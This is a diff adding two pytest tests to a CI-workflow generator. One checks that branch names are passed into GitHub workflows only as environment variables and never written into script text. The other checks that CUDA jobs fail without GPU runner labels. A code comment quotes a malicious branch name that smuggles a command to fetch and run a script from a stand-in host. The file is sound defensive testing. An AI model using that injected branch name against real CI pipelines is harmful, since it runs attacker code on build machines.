@@ -132,3 +132,27 @@ def test_dry_run_writes_nothing(cli, project: Project) -> None:
     assert "planned" in result.out
     assert "+stages:" in result.out
     assert not (project.root / FILES["gitlab"]).exists()
+
+
+def test_branch_names_never_reach_a_script_as_text(cli, project: Project) -> None:
+    # `feature/x$(curl${IFS}evil|sh)` is a valid branch name: it must stay data, not code.
+    _generate(cli, project, "github")
+    workflow = yaml.safe_load((project.root / FILES["github"]).read_text())
+    for job in workflow["jobs"].values():
+        for step in job["steps"]:
+            assert "github.head_ref" not in step.get("run", ""), step
+            assert "github.ref_name" not in step.get("run", ""), step
+    assert (
+        workflow["jobs"]["gate"]["env"]["TORCHLANE_BRANCH"]
+        == "${{ github.head_ref || github.ref_name }}"
+    )
+
+
+@pytest.mark.parametrize("provider", ["github", "gitlab"])
+def test_cuda_evaluation_jobs_need_gpu_runners(cli, project: Project, provider: str) -> None:
+    config = project.root / ".torchlane.toml"
+    config.write_text(config.read_text() + '\n[env]\ntorch = "2.13.0"\naccelerator = "cuda13.0"\n')
+    result = cli(["ci", "generate", "--provider", provider], cwd=project.root)
+    assert result.code == 1
+    assert "gpu_runner_labels" in result.err or "gitlab_gpu_tags" in result.err
+    assert not (project.root / FILES[provider]).exists()
